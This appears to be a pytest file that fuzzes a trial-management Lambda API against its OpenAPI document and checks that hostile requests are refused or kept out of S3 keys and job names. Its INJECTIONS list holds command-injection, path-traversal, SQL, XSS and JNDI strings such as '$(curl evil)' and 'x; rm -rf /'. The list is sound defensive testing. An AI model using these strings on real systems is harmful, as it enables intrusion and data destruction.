"""The trial API against its committed OpenAPI document, with schemathesis, the handler served in process.

A WSGI adapter turns each generated request into the REST proxy event API Gateway sends (IAM already checked) and
calls ``lambdas.handlers.on_trial_api.handler`` against moto. Every response must be non-5xx and conform to the
document (status code, content type, body schema). Hostile bodies (oversized, deeply nested, injection-shaped
names) are sent the same way; what the handler does with them is checked in S3, DynamoDB and Step Functions.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import schemathesis
from hypothesis import HealthCheck, settings
from schemathesis.specs.openapi.checks import (
    positive_data_acceptance,
    unsupported_method,
)

from tests.client.dualtrack_api_shim import proxy_event
from tests.integration.conftest import Context
from tests.json_access import obj
from tests.reliability import figures

ROOT = Path(__file__).resolve().parents[2]
OPENAPI = json.loads((ROOT / "lambdas" / "openapi.json").read_text())
FIGURES = "bad_input.api"
REASONS = {200: "OK", 201: "Created", 202: "Accepted", 400: "Bad Request", 403: "Forbidden", 404: "Not Found",
           405: "Method Not Allowed", 409: "Conflict", 413: "Payload Too Large", 415: "Unsupported Media Type",
           422: "Unprocessable Entity", 500: "Internal Server Error"}


def wsgi_app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
    from lambdas.handlers.on_trial_api import handler

    path = environ.get("PATH_INFO") or "/"
    if path == "/openapi.json":
        start_response("200 OK", [("Content-Type", "application/json")])
        return [json.dumps(OPENAPI).encode()]
    length = int(environ.get("CONTENT_LENGTH") or 0)
    body = environ["wsgi.input"].read(length) if length else b""
    headers = {k[5:].replace("_", "-").title(): v for k, v in environ.items() if k.startswith("HTTP_")}
    if environ.get("CONTENT_TYPE"):
        headers["Content-Type"] = environ["CONTENT_TYPE"]
    event = proxy_event(environ["REQUEST_METHOD"], path, environ.get("QUERY_STRING", ""), headers, body)
    response = obj(handler(event, Context()))
    status = int(response["statusCode"])
    out_headers = [(k, str(v)) for k, v in (response.get("headers") or {}).items()]
    # A REST (v1) proxy response may carry its headers as multiValueHeaders, as Powertools' resolver does.
    out_headers += [(k, str(v)) for k, values in (response.get("multiValueHeaders") or {}).items() for v in values
                    if k not in dict(out_headers)]
    start_response(f"{status} {REASONS.get(status, 'Status')}", out_headers)
    figures.add(FIGURES, "requests")
    figures.add(FIGURES, f"status_{status}")
    return [(response.get("body") or "").encode()]


schema = schemathesis.openapi.from_wsgi("/openapi.json", wsgi_app)


@pytest.fixture
def api_aws(aws: dict[str, Any]) -> dict[str, Any]:
    return aws


# Left out of the generated run: positive_data_acceptance (the POST body is declared as any object, so
# schema-valid bodies are rightly rejected by the trial model, with 422) and unsupported_method (API Gateway
# answers undeclared methods itself, 403, before the function runs). Every status the function answers is
# declared, so status-code conformance is checked.
DOCUMENT_GAPS = [positive_data_acceptance, unsupported_method]


GENERATED = settings(max_examples=15, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))


def _call_and_validate(case: Any) -> None:
    figures.add(FIGURES, "schemathesis_cases")
    try:
        # unsupported_method: API Gateway answers undeclared methods itself (403) before the function runs.
        case.call_and_validate(excluded_checks=DOCUMENT_GAPS)
    except Exception:
        figures.add(FIGURES, "schemathesis_failures")
        raise


@pytest.mark.slow
@schema.include(method="GET").parametrize()
@GENERATED
def test_generated_reads_get_non_5xx_schema_conforming_answers(case: Any, api_aws: dict[str, Any]) -> None:
    _call_and_validate(case)


@pytest.mark.slow
@schema.include(method="POST").parametrize()
@GENERATED
def test_generated_writes_get_non_5xx_schema_conforming_answers(case: Any, api_aws: dict[str, Any]) -> None:
    _call_and_validate(case)


def test_an_unsupported_content_type_is_a_4xx(aws: dict[str, Any], example: dict[str, Any]) -> None:
    from lambdas.handlers.on_trial_api import handler

    event = proxy_event("POST", "/trials", "", {"Content-Type": "text/plain"}, json.dumps(example).encode())
    response = obj(handler(event, Context()))
    figures.record(FIGURES, text_plain_body_status=response["statusCode"])
    assert 400 <= response["statusCode"] < 500


@pytest.mark.parametrize("content_type", ["multipart/form-data", "application/x-www-form-urlencoded",
                                          "text/plain; charset=utf-8", "application/xml"])
def test_a_body_in_any_type_but_json_is_refused_before_parsing(aws: dict[str, Any], content_type: str) -> None:
    from lambdas.handlers.on_trial_api import handler

    for path in ("/trials", "/trials/t-0123456789/cancel"):
        event = proxy_event("POST", path, "", {"Content-Type": content_type}, b"reason=x")
        response = obj(handler(event, Context()))
        assert response["statusCode"] == 415, (path, response)
        assert "application/json" in json.loads(response["body"])["message"]
    assert aws["ddb"].scan(TableName="trials")["Count"] == 0


@pytest.mark.parametrize("body", [b"", None])
def test_a_request_without_a_body_is_never_refused_for_its_content_type(aws: dict[str, Any], example: dict[str, Any],
                                                                        body: bytes | None) -> None:
    """415 is for a body that is not JSON: a GET, or a POST with no body (API Gateway passes ``body`` null, or an
    empty string), is answered as its route answers whatever Content-Type the client sent."""
    from lambdas.handlers.on_trial_api import handler

    def call(method: str, path: str) -> tuple[int, dict[str, Any]]:
        event = proxy_event(method, path, "", {"Content-Type": "text/plain"}, b"")
        event["body"] = None if body is None else body.decode()
        response = obj(handler(event, Context()))
        return response["statusCode"], json.loads(response["body"])

    status, listed = call("GET", "/trials")
    assert status == 200 and listed["trials"] == [], listed
    status, missing = call("GET", "/trials/no-such-trial-0123456789")
    assert status == 404 and "no trial" in missing["message"], missing
    event = proxy_event("POST", "/trials", "", {"Content-Type": "application/json"}, json.dumps(example).encode())
    trial_id = json.loads(obj(handler(event, Context()))["body"])["trial_id"]
    status, cancelled = call("POST", f"/trials/{trial_id}/cancel")  # its body is optional
    assert status == 200 and cancelled["status"] in ("CANCELLED", "STOPPING"), cancelled


def test_a_trial_id_no_route_accepts_is_404_not_405(aws: dict[str, Any]) -> None:
    response = _get("/trials/\u0084")  # as a client sends it decoded: no route pattern matches
    assert response["statusCode"] == 404 and "GET /trials" in json.loads(response["body"])["message"]


def _get(path: str, query: str = "") -> dict[str, Any]:
    from lambdas.handlers.on_trial_api import handler

    return handler(proxy_event("GET", path, query, {}, b""), Context())  # type: ignore[no-any-return]


def test_a_malformed_page_token_is_a_4xx(aws: dict[str, Any]) -> None:
    response = _get("/trials", "next_token=0w")
    figures.record(FIGURES, malformed_next_token_status=response["statusCode"])
    assert 400 <= response["statusCode"] < 500


def test_every_status_the_handler_answers_is_documented(aws: dict[str, Any]) -> None:
    response = _get("/trials/no-such-trial-0123456789")
    declared = OPENAPI["paths"]["/trials/{trial_id}"]["get"]["responses"]
    figures.record(FIGURES, unknown_trial_status=response["statusCode"], declared=sorted(declared))
    assert str(response["statusCode"]) in declared


def _post(body: str | bytes) -> dict[str, Any]:
    from lambdas.handlers.on_trial_api import handler

    event = proxy_event("POST", "/trials", "", {"Content-Type": "application/json"}, b"")
    # API Gateway passes a non-binary media type's body through as text; undecodable bytes arrive replaced.
    event["body"] = body if isinstance(body, str) else body.decode("utf-8", errors="replace")
    return handler(event, Context())  # type: ignore[no-any-return]


HOSTILE_BODIES: dict[str, Callable[[dict[str, Any]], str | bytes]] = {
    "10 MB string field": lambda example: json.dumps({**example, "owner": "x" * 10_000_000}),
    "100k array": lambda example: json.dumps({**example, "evaluation": {"interval_steps": 1,
                                                                        "prompts": ["p"] * 100_000}}),
    "nested 10k deep": lambda example: '{"schema_version": 1, "x": ' + "[" * 10_000 + "]" * 10_000 + "}",
    "nested objects 3k deep": lambda example: '{"a":' * 3_000 + "1" + "}" * 3_000,
    "not JSON": lambda example: "schema_version=1&name=x",
    "binary": lambda example: b"\xff\xfe\x00\x00garbage",
}


# Python's json parser raises RecursionError past ~1000 levels: the API answers 400, never a 503 inviting a retry.
@pytest.mark.parametrize("name", sorted(HOSTILE_BODIES))
def test_oversized_and_deeply_nested_bodies_get_a_4xx(aws: dict[str, Any], example: dict[str, Any],
                                                     name: str) -> None:
    response = _post(HOSTILE_BODIES[name](example))
    figures.add(FIGURES, "hostile_bodies")
    assert 400 <= response["statusCode"] < 500, (name, response["statusCode"], (response.get("body") or "")[:300])
    body = json.loads(response["body"])
    assert body, name
    assert aws["ddb"].scan(TableName="trials")["Count"] == 0
    figures.add(FIGURES, "hostile_bodies_rejected_4xx")


INJECTIONS = ["x; rm -rf /", "$(curl evil)", "`id`", "../../etc/passwd", "a\nb", "a%2Fb", "a/../b", "name' OR '1'='1",
              "<script>alert(1)</script>", "${jndi:ldap://x}", "a b", "\u202eevil", "a\x00b"]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("field", ["name", "owner", "data.train_uri", "model.id", "model.revision"])
def test_injection_shaped_values_never_reach_a_job_name_or_an_s3_key(aws: dict[str, Any], example: dict[str, Any],
                                                                    field: str, value: str) -> None:
    doc = json.loads(json.dumps(example))
    target = doc
    *parents, leaf = field.split(".")
    for part in parents:
        target = target[part]
    target[leaf] = value if field != "data.train_uri" else f"s3://bucket/{value}"
    response = _post(json.dumps(doc))
    figures.add(FIGURES, "injection_cases")
    keys = [o["Key"] for o in aws["s3"].list_objects_v2(Bucket="artifacts").get("Contents", [])]
    executions = aws["sfn"].list_executions(stateMachineArn=aws["state_machine"])["executions"]
    if response["statusCode"] >= 400:
        assert response["statusCode"] < 500
        assert not keys and not executions
        figures.add(FIGURES, "injection_rejected")
        return
    # Accepted (a value the model allows, e.g. inside an S3 key's path): it must not shape names or keys.
    figures.add(FIGURES, "injection_accepted_as_data")
    trial_id = json.loads(response["body"])["trial_id"]
    assert all(k.startswith(f"trials/{trial_id}/") for k in keys), keys
    assert all(e["name"] == trial_id for e in executions)
    import re

    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]{0,80}", trial_id)
    for key in keys:
        assert value not in key


def _submit(headers: dict[str, str], body: str, *, base64_encoded: bool = False) -> tuple[int, dict[str, Any]]:
    from lambdas.handlers.on_trial_api import handler

    event = proxy_event("POST", "/trials", "", headers, b"")
    event["body"], event["isBase64Encoded"] = body, base64_encoded
    response = obj(handler(event, Context()))
    return response["statusCode"], json.loads(response["body"])


@pytest.mark.parametrize("body", ["!!not base64***", "eyJhI", "//79/A=="])
def test_a_body_flagged_base64_that_does_not_decode_to_text_is_a_400(aws: dict[str, Any], body: str) -> None:
    """A REST proxy event marks a body API Gateway base64-encoded with ``isBase64Encoded`` (API Gateway developer
    guide, "Binary media types for REST APIs in API Gateway":
    https://docs.aws.amazon.com/apigateway/latest/developerguide/api-gateway-payload-encodings.html). A flagged body
    that is not base64, or not UTF-8 text once decoded, is the client's error: retrying cannot help."""
    status, answer = _submit({"Content-Type": "application/json"}, body, base64_encoded=True)
    assert status == 400, answer
    assert answer["errors"][0]["path"] == "body" and "base64" in answer["message"]
    assert aws["ddb"].scan(TableName="trials")["Count"] == 0


def test_a_base64_json_body_is_decoded_like_a_text_one(aws: dict[str, Any], example: dict[str, Any]) -> None:
    """API Gateway developer guide, "Binary media types for REST APIs in API Gateway":
    https://docs.aws.amazon.com/apigateway/latest/developerguide/api-gateway-payload-encodings.html."""
    import base64

    encoded = base64.b64encode(json.dumps(example).encode()).decode()
    assert _submit({"Content-Type": "application/json"}, encoded, base64_encoded=True)[0] == 201
    twice = base64.b64encode(b'{"name": "a", "name": "b"}').decode()
    status, answer = _submit({"Content-Type": "application/json"}, twice, base64_encoded=True)
    assert status == 422 and answer["errors"][0]["path"] == "name"


@pytest.mark.parametrize("content_type", ["Application/JSON", "APPLICATION/JSON; Charset=UTF-8",
                                          "application/vnd.api+json", "Application/Problem+JSON"])
def test_json_media_types_are_accepted_whatever_their_case_and_with_a_json_suffix(
        aws: dict[str, Any], example: dict[str, Any], content_type: str) -> None:
    """Media types are case-insensitive (RFC 9110, section 8.3.1: "The type and subtype tokens are
    case-insensitive"), and ``+json`` names a JSON document (RFC 6839, section 3.1). API Gateway passes the
    request's Content-Type through to the function unchanged (API Gateway developer guide, "Lambda proxy
    integrations in API Gateway", the input format: ``headers``:
    https://docs.aws.amazon.com/apigateway/latest/developerguide/set-up-lambda-proxy-integrations.html)."""
    status, answer = _submit({"Content-Type": content_type}, json.dumps(example))
    assert status == 201, answer
    status, answer = _submit({"content-type": content_type}, json.dumps(dict(example, tracks="x")))
    assert status == 422 and answer["errors"][0]["path"].startswith("tracks"), answer


def test_the_415_names_every_accepted_type(aws: dict[str, Any]) -> None:
    status, answer = _submit({"Content-Type": "application/vnd.api+xml"}, "<x/>")
    assert status == 415 and "application/json" in answer["message"] and "+json" in answer["message"]
